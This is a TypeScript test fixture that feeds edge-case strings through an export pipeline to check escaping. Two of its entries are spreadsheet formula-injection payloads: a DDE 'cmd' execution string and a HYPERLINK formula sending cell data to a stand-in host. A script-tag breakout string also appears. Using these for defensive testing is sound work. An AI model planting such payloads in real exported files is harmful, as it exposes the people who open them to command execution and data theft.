import type { ExportedRecord, ExportStatement } from '../../workers/export/export-format';
import { SAMPLE_RECORDS, SAMPLE_STATEMENT } from '../../workers/export/sample-records';

/** Texts that have broken exports of other programs. */
export const HOSTILE_TEXTS = [
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://192.0.2.1/?x="&A1,"ok")\nsecond line',
  '+1',
  '-1',
  '@SUM(1,1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  "'=1",
  "''quoted'",
  'quote " in it',
  '"',
  '""',
  "'",
  ',',
  ';',
  '\n',
  '\r\n',
  'a\rb',
  'NUL \u0000 in it',
  '\u0000',
  '\u001b[31mred',
  '\u2028 and \u2029',
  'in \ufeffit',
  '\ufffd',
  '😀 \u{10ffff}',
  '{"json": true}',
  '</script><script>',
  '\\',
  '\\n',
  '\\u0000',
  'null',
  'NaN',
  'true',
  '',
  ' leading and trailing ',
  'x'.repeat(70_000),
  'ä'.repeat(3_000),
];

/** A record that says this text wherever it can. */
export function recordSaying(text: string, at: number): ExportedRecord {
  const [whole] = SAMPLE_RECORDS;
  const instant = Date.UTC(2024, 4, 1) + at;
  const event = {
    ...whole!.event,
    time: new Date(instant).toISOString(),
    process: text,
    pid: text,
    component: text,
    opId: text,
    sid: text,
    user: text,
    host: text,
    message: text,
    raw: text,
    file: text,
    line: at + 1,
    lines: 1,
  };
  return { ...whole!, event, sourceName: text, instant, placed: { instant, by: 'stated' } };
}

export const HOSTILE_RECORDS = HOSTILE_TEXTS.map(recordSaying);

export const HOSTILE_STATEMENT: ExportStatement = {
  ...SAMPLE_STATEMENT,
  query: '"=1,\n\u0000 😀" or message:/^"/',
  count: HOSTILE_RECORDS.length,
};
